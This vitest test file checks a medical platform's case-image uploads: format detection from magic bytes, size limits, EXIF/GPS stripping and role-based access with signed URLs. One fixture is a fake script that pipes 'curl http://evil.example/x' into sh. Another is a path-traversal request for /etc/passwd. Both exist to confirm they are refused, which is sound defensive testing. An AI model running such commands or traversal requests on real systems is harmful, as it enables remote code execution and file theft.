/**
 * Case images: the format is read from the magic bytes (not the name or declared type), uploads
 * are capped at 5 MB, images are re-encoded so EXIF (GPS, device) is gone, names are the server's,
 * and an image is served only to its author and, once submitted, to reviewers (404 otherwise).
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeDoctor, makeStaff, type TestDoctor, type TestStaff } from './factories.js';
import { startStack, type Stack } from './harness.js';
import { GOOD_ANSWERS, makeCampaign, uploadCaseImage } from './casesSupport.js';

let stack: Stack;
const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hcp360-case-images-'));
let doctorA: TestDoctor;
let doctorB: TestDoctor;
let medical: TestStaff;
let campaign: string;

beforeAll(async () => {
  stack = await startStack({ env: { DATA_DIR: dataDir } });
  [doctorA, doctorB] = await Promise.all([makeDoctor(stack, { until: 'verified' }), makeDoctor(stack, { until: 'verified' })]);
  medical = await makeStaff(stack, 'medical');
  campaign = await makeCampaign(stack);
});
afterAll(async () => {
  await stack?.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

const png = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#c0392b' } }).png().toBuffer();

/** A JPEG carrying EXIF with a GPS position and the camera model. */
const jpegWithGps = () =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#1f618d' } })
    .withExif({
      IFD0: { Make: 'SecretPhone', Model: 'Model X-GPS' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 13/1 49/1', GPSLongitudeRef: 'E', GPSLongitude: '121/1 28/1 25/1' },
    })
    .jpeg()
    .toBuffer();

const fetchImage = (url: string, token?: string) => fetch(`${stack.url}${url}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });

describe('uploading case images', () => {
  it('accepts a PNG named .txt and declared text/plain: the bytes say PNG', async () => {
    const res = await uploadCaseImage(stack, doctorA.token, await png(), { multipart: true, filename: 'notes.txt', type: 'text/plain' });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ contentType: 'image/png', width: 40, height: 30 });
    expect(res.body.name).toMatch(/^[0-9a-f]{32}\.png$/);
    expect(res.body.name).not.toContain('notes');
  });

  it('refuses a script named .jpg and declared image/jpeg (415), raw or multipart', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    for (const multipart of [true, false]) {
      const res = await uploadCaseImage(stack, doctorA.token, script, { multipart, filename: 'ecg.jpg', type: 'image/jpeg' });
      expect(res.status).toBe(415);
      expect(res.body.error.code).toBe('UNSUPPORTED_IMAGE');
    }
  });

  it('refuses 6 MB (413) and unverified doctors (403)', async () => {
    const big = Buffer.concat([await png(), Buffer.alloc(6 * 1024 * 1024, 1)]);
    const res = await uploadCaseImage(stack, doctorA.token, big, { multipart: true, filename: 'big.png', type: 'image/png' });
    expect(res.status).toBe(413);
    expect(res.body.error.code).toBe('PAYLOAD_TOO_LARGE');
    const raw = await uploadCaseImage(stack, doctorA.token, big, { type: 'image/png' });
    expect(raw.status).toBe(413);
    const pending = await makeDoctor(stack, { until: 'pending' });
    expect((await uploadCaseImage(stack, pending.token, await png())).body.error.code).toBe('VERIFICATION_REQUIRED');
  });

  it('re-encodes, so the EXIF with GPS and the camera is gone', async () => {
    const original = await jpegWithGps();
    expect((await sharp(original).metadata()).exif).toBeDefined();
    expect(original.includes(Buffer.from('SecretPhone'))).toBe(true);
    const res = await uploadCaseImage(stack, doctorA.token, original, { multipart: true, filename: 'IMG_0001.JPG', type: 'image/jpeg' });
    expect(res.status).toBe(201);
    const served = Buffer.from(await (await fetchImage(`/api/cases/images/${res.body.name}`, doctorA.token)).arrayBuffer());
    const meta = await sharp(served).metadata();
    expect(meta.format).toBe('jpeg');
    expect(meta.exif).toBeUndefined();
    expect(served.includes(Buffer.from('SecretPhone'))).toBe(false);
    expect(served.includes(Buffer.from('GPS'))).toBe(false);
    const stored = fs.readFileSync(path.join(dataDir, 'case-images', res.body.name));
    expect(stored.equals(served)).toBe(true);
  });
});

describe('who may see a case image', () => {
  it('is the author, then reviewers once submitted, and holders of a fresh signed URL; everyone else gets 404', async () => {
    const up = await uploadCaseImage(stack, doctorA.token, await png(), { multipart: true, filename: 'x.png' });
    const url = `/api/cases/images/${up.body.name}`;
    expect((await fetchImage(url, doctorA.token)).status).toBe(200);
    expect((await fetchImage(url, doctorB.token)).status).toBe(404);
    expect((await fetchImage(url)).status).toBe(404);
    // Not submitted yet: a reviewer has no business with a draft's picture.
    expect((await fetchImage(url, medical.token)).status).toBe(404);
    // Another doctor cannot put A's image into their own case.
    const stolen = await stack.http.post(`/api/cases/campaigns/${campaign}/submissions`, { answers: { ...GOOD_ANSWERS, ecg: [up.body.name] } }, doctorB.token);
    expect(stolen.body.error.code).toBe('IMAGE_NOT_FOUND');

    const sub = await stack.http.post(`/api/cases/campaigns/${campaign}/submissions`, { answers: { ...GOOD_ANSWERS, ecg: [up.body.name] } }, doctorA.token);
    expect(sub.status, JSON.stringify(sub.body)).toBe(201);
    expect((await fetchImage(url, medical.token)).status).toBe(200);
    expect((await fetchImage(url, doctorB.token)).status).toBe(404);
    const marketing = await makeStaff(stack, 'marketing');
    expect((await fetchImage(url, marketing.token)).status).toBe(404);

    const view = await stack.http.get(`/api/cases/submissions/${sub.body.id}`, doctorA.token);
    const signed = view.body.imageUrls[up.body.name] as string;
    expect(signed).toMatch(/\?exp=\d+&sig=/);
    expect((await fetchImage(signed)).status).toBe(200);
    // A signature with its first character changed (to another one: 'A' when it is not 'A' already).
    const tampered = signed.replace(/sig=(.)/, (_, first: string) => `sig=${first === 'A' ? 'B' : 'A'}`);
    expect(tampered).not.toBe(signed);
    expect((await fetchImage(tampered)).status).toBe(404);
    stack.clock.advance(2 * 3600_000);
    expect((await fetchImage(signed)).status).toBe(404);
    expect((await fetchImage('/api/cases/images/..%2F..%2Fetc%2Fpasswd')).status).toBe(404);
  });
});
